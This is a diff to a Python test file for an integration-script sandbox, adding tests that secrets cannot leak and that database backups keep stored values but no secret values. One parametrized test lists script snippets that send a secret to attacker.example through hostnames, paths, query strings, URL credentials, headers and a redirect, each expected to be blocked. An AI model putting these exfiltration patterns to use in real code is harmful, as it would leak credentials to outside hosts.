@@ -1,10 +1,11 @@
 """Secrets and stores over HTTP, and a script that uses both: the whole way, with an attacker looking everywhere."""
 
 import json
+import sqlite3
 import time
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
-from contextlib import ExitStack, contextmanager
+from contextlib import ExitStack, closing, contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from threading import Thread
@@ -46,6 +47,12 @@ class Echo(BaseHTTPRequestHandler):
         self.do_GET()
 
     def do_GET(self) -> None:
+        if self.path == "/elsewhere":
+            self.send_response(302)
+            self.send_header("Location", f"http://localhost:{self.server.server_address[1]}/")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
         self.seen.append({name.lower(): value for name, value in self.headers.items()})
         body = json.dumps(self.seen[-1]).encode()
         self.send_response(200)
@@ -162,6 +169,62 @@ def test_a_run_that_fails_leaves_nothing_and_what_is_kept_can_be_seen_and_cleare
     assert post(server.admin, "integrations.store.clear", integrationId=id, key="other")["count"] == 0
     assert post(server.admin, "integrations.store.clear", integrationId=id)["count"] == 1
     assert get(server.admin, "integrations.store", integrationId=id)["values"] == []
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "http.get(url + secret)",
+        "http.get('http://' + secret + '.attacker.example/')",
+        "http.get('http://' + secret.upper() + '.attacker.example/')",
+        "http.get('http://attacker.example/' + secret)",
+        "http.get('http://attacker.example/?' + secret)",
+        "http.get(url.replace('://', '://me:' + secret + '@'))",
+        "http.get(url, headers={secret: 'x'})",
+        "http.get(url, headers={'Host': secret})",
+        "http.get(url.replace('127.0.0.1', 'localhost'), headers={'X': secret})",
+        "http.get(url + 'elsewhere', headers={'X': secret})",
+        "http.request(secret, url)",
+        "{}[secret]",
+    ],
+)
+def test_nothing_that_a_script_writes_brings_the_value_anywhere_else(place: tuple[Running, str], attempt: str) -> None:
+    server, url = place
+    script = (
+        "from hookcell import http, secrets\ndef process_incoming(request):\n"
+        f"    url, secret = request['content']['url'], secrets.ref('api')\n    return {attempt}.text\n"
+    )
+    record = integrate(server, script=script)
+    body = {"integrationId": record["_id"], "name": "api", "value": VALUE, "hosts": ["127.0.0.1"]}
+    post(server.admin, "integrations.setSecret", **body, uses=["header", "query", "body"])
+    Echo.seen.clear()
+    answer = call(server, record, url=url)
+    assert answer.json() == {"success": False, "error": "error-running-script"}
+    assert not Echo.seen and VALUE not in json.dumps(get(server.admin, "integrations.history", id=record["_id"]))
+
+
+def test_a_backup_has_what_scripts_keep_until_its_time_and_no_secret_to_read(
+    place: tuple[Running, str], tmp_path: Path
+) -> None:
+    server, _ = place
+    script = (
+        "from hookcell import store\ndef process_incoming(request):\n"
+        "    store.set('short', 1, ttl=0.2)\n    store.set('long', [request['content']], ttl=60)\n"
+    )
+    record = integrate(server, script=script)
+    id = record["_id"]
+    post(server.admin, "integrations.setSecret", integrationId=id, name="api", value=VALUE, hosts=["127.0.0.1"])
+    assert call(server, record, n=1).status_code == 200
+    time.sleep(0.2)
+    (kept,) = get(server.admin, "integrations.store", integrationId=id)["values"]
+    assert (kept["key"], kept["value"]) == ("long", [{"n": 1}]) and kept["expiresAt"]
+    copy = tmp_path / "copy.db"
+    server.run(server.engine.store.backup(copy))
+    with closing(sqlite3.connect(copy)) as database:
+        rows = database.execute("SELECT value FROM stored_values WHERE integration_id = ? AND key = 'long'", (id,))
+        assert rows.fetchall() == [('[{"n":1}]',)]
+        assert database.execute("SELECT name FROM secrets WHERE scope = ?", (id,)).fetchall() == [("api",)]
+    assert VALUE.encode() not in copy.read_bytes()
 
 
 def test_another_host_is_refused_with_what_to_add(place: tuple[Running, str]) -> None:
